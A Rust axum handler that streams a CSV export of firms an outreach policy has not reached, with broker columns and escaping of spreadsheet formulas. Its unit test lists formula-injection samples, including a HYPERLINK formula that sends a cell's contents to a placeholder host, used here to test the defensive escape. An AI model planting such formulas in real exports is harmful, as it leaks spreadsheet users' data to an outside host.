//! `GET /exports/policies/{id}/unreached.csv`: every eligible firm a policy has not reached (or
//! that never answered), for an SMS or broker campaign. Streamed a page at a time, so a
//! 200,000-row export holds one page in memory.

use std::borrow::Cow;
use std::sync::Arc;

use axum::Extension;
use axum::body::{Body, Bytes};
use axum::extract::{Path, Query, State};
use axum::http::{HeaderMap, header};
use axum::response::{IntoResponse, Response};
use sea_orm::sea_query::Expr;
use serde::Deserialize;

use super::HttpState;
use crate::error::{AppError, AppResult};
use crate::outreach::{
    FunnelStage, brokers_of_all, export_page, reach_reader, unreached_condition,
};
use crate::schema::RequestNote;
use crate::validate;

const ROWS_PER_PAGE: u64 = 1_000;
const COLUMNS: [&str; 10] = [
    "uscc",
    "name",
    "region_code",
    "region_name",
    "prefecture_code",
    "prefecture_name",
    "size",
    "customs_code",
    "broker_usccs",
    "broker_names",
];

#[derive(Deserialize)]
pub struct ExportParams {
    stage: Option<String>,
    region: Option<String>,
}

/// The export, or a JSON error naming what is wrong.
pub async fn unreached_csv(
    State(state): State<Arc<HttpState>>,
    Path(id): Path<String>,
    Query(params): Query<ExportParams>,
    Extension(note): Extension<Arc<RequestNote>>,
    headers: HeaderMap,
) -> Response {
    note.operation("export unreachedFirms".to_owned());
    match prepare(&state, &id, params, &headers, &note).await {
        Ok((filename, condition)) => {
            let body = Body::from_stream(rows(state, condition));
            (
                [
                    (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
                    (
                        header::CONTENT_DISPOSITION,
                        format!("attachment; filename=\"{filename}\""),
                    ),
                ],
                body,
            )
                .into_response()
        }
        Err(err) => err.into_response(),
    }
}

async fn prepare(
    state: &HttpState,
    id: &str,
    params: ExportParams,
    headers: &HeaderMap,
    note: &RequestNote,
) -> AppResult<(String, Expr)> {
    let viewer = super::authenticate(state, headers, note)?;
    let app = &state.base;
    let policy_id = validate::policy_id("id", &async_graphql::ID(id.to_owned()))?;
    let stage = match params.stage.as_deref() {
        None => FunnelStage::NotReached,
        Some(text) => FunnelStage::parse(text)
            .ok_or_else(|| AppError::field("stage", "NOT_REACHED or NOT_ACKNOWLEDGED"))?,
    };
    let region = params
        .region
        .map(|r| {
            app.regions
                .parse(&r)
                .map_err(|e| AppError::field("region", e))
        })
        .transpose()?;
    let view = reach_reader(app, &viewer, policy_id).await?;
    let condition = unreached_condition(&app.regions, &view, stage, region)?;
    let filename = format!(
        "{}-{}.csv",
        view.policy.code,
        stage.as_str().to_ascii_lowercase().replace('_', "-")
    );
    Ok((filename, condition))
}

struct Cursor {
    state: Arc<HttpState>,
    condition: Expr,
    after: Option<String>,
    started: bool,
    done: bool,
}

fn rows(
    state: Arc<HttpState>,
    condition: Expr,
) -> impl futures::Stream<Item = Result<Bytes, std::io::Error>> {
    let cursor = Cursor {
        state,
        condition,
        after: None,
        started: false,
        done: false,
    };
    futures::stream::unfold(cursor, |mut cursor| async move {
        if cursor.done {
            return None;
        }
        match next_page(&mut cursor).await {
            Ok(bytes) => Some((Ok(bytes), cursor)),
            Err(err) => {
                tracing::error!(error = %err, "CSV export stopped");
                cursor.done = true;
                Some((Err(std::io::Error::other("export failed")), cursor))
            }
        }
    })
}

/// The header (first call), then the next page of rows; an empty page ends the stream.
async fn next_page(cursor: &mut Cursor) -> AppResult<Bytes> {
    let mut buffer = Vec::new();
    if !cursor.started {
        // A byte-order mark so spreadsheet programs read the Chinese names as UTF-8.
        buffer.extend_from_slice("\u{feff}".as_bytes());
    }
    let mut out = csv::Writer::from_writer(buffer);
    if !cursor.started {
        cursor.started = true;
        out.write_record(COLUMNS).map_err(AppError::internal)?;
    }
    let app = &cursor.state.base;
    let firms = export_page(
        &app.db,
        cursor.condition.clone(),
        cursor.after.as_deref(),
        ROWS_PER_PAGE,
    )
    .await?;
    if (firms.len() as u64) < ROWS_PER_PAGE {
        cursor.done = true;
    }
    let usccs: Vec<String> = firms.iter().map(|f| f.uscc.clone()).collect();
    let brokers = brokers_of_all(&app.db, &usccs).await?;
    let regions = &app.regions;
    let name_of = |code: &str| {
        regions
            .parse(code)
            .map(|c| regions.name(c).to_owned())
            .unwrap_or_default()
    };
    for firm in &firms {
        let firm_brokers = brokers
            .get(&firm.uscc)
            .map(Vec::as_slice)
            .unwrap_or_default();
        let broker_usccs: Vec<&str> = firm_brokers.iter().map(|b| b.uscc.as_str()).collect();
        let broker_names: Vec<String> = firm_brokers
            .iter()
            .map(|b| cell(&b.name).replace(LIST_SEPARATOR, "；"))
            .collect();
        let prefecture = firm.prefecture.clone().unwrap_or_default();
        out.write_record([
            firm.uscc.as_str(),
            &cell(&firm.name),
            &firm.region,
            &name_of(&firm.region),
            &prefecture,
            &name_of(&prefecture),
            firm.size.as_deref().unwrap_or_default(),
            firm.customs_code.as_deref().unwrap_or_default(),
            &broker_usccs.join(LIST_SEPARATOR),
            &broker_names.join(LIST_SEPARATOR),
        ])
        .map_err(AppError::internal)?;
    }
    cursor.after = usccs.last().cloned().or(cursor.after.take());
    Ok(Bytes::from(
        out.into_inner()
            .map_err(|e| AppError::internal_msg(e.to_string()))?,
    ))
}

/// Joins the brokers of a firm within one cell; a name containing it gets the full-width `；`.
const LIST_SEPARATOR: &str = ";";

/// Free text as a spreadsheet cell: text a spreadsheet program would run as a formula (starting
/// with `=`, `+`, `-`, `@`, tab or carriage return) gets a leading `'`, so it shows as text.
pub(super) fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn formulas_become_text_and_plain_names_stay_as_they_are() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for plain in [
            "深圳市海运通报关有限公司",
            "Acme Trading (HK) Ltd.",
            "3M China",
        ] {
            assert_eq!(cell(plain), plain);
        }
    }
}
